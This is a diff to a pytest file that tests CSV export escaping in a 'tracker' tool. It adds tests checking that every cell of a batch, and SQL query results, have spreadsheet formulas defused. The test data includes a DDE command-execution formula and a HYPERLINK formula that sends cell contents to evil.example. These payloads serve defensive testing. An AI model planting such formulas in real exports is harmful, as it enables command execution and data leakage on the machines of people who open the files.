@@ -16,6 +16,7 @@ import pytest
 from tests.conftest import Cli
 from tests.reporting_data import enter_history
 from tracker.cells import defuse_formula, for_terminal
+from tracker.export import write_csv_rows
 
 CALC = "=cmd|' /C calc'!A0"
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -51,6 +52,17 @@ def test_the_formula_rule(value: object, defused: object) -> None:
     assert defuse_formula(value) == defused
 
 
+@pytest.mark.parametrize("batch", [
+    [[CALC, 1]], [[1, CALC]], [["a", 1], [CALC, 2]], [["x,y", "=1"]], [["two\nlines", "\rx"]],
+    [["a", "b"]] * 3 + [[-5, "@x"]],
+])
+def test_every_cell_of_a_batch_is_looked_at(batch: list[list[object]]) -> None:
+    fh = io.StringIO()
+    write_csv_rows(batch, fh)
+    assert list(csv.reader(io.StringIO(fh.getvalue(), newline=""))) == [
+        [str(defuse_formula(v)) for v in row] for row in batch]
+
+
 def test_csv_defuses_formulas_and_keeps_numbers(cli: Cli) -> None:
     enter_history(cli)
     add(cli, CALC, SUM)
@@ -68,6 +80,9 @@ def test_csv_defuses_formulas_and_keeps_numbers(cli: Cli) -> None:
     assert balance == cli.ok("export", "balance", "--no-escape-formulas")
     # reports printed as CSV take the same rule
     assert "'" + SUM in cli.ok("report", "sources", "--format", "csv")
+    # a text cell first on its line (here the only column) is looked at too
+    assert f"'{CALC}" in cli.ok("sql", "SELECT title FROM sources WHERE title LIKE '=cmd%'",
+                                "--format", "csv")
 
 
 def test_json_and_parquet_keep_the_text_exact(cli: Cli, tmp_path: Path) -> None:
